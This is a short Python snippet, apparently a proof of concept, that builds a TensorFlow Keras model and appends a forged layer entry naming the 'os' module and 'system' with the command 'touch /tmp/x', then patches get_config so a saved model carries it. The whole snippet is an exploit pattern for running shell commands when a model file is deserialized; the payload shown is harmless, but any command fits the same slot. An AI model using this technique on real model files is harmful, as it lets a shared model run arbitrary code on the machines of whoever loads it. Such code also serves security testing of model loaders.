# %%
import tensorflow as tf


def create_model():
    model = tf.keras.Sequential([tf.keras.layers.Input((150, 150, 3)), tf.keras.layers.Flatten()])
    bad = {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/x"}, "registered_name": None}
    config = model.get_config()
    config["layers"].append(bad)
    model.get_config = lambda: config
    return model
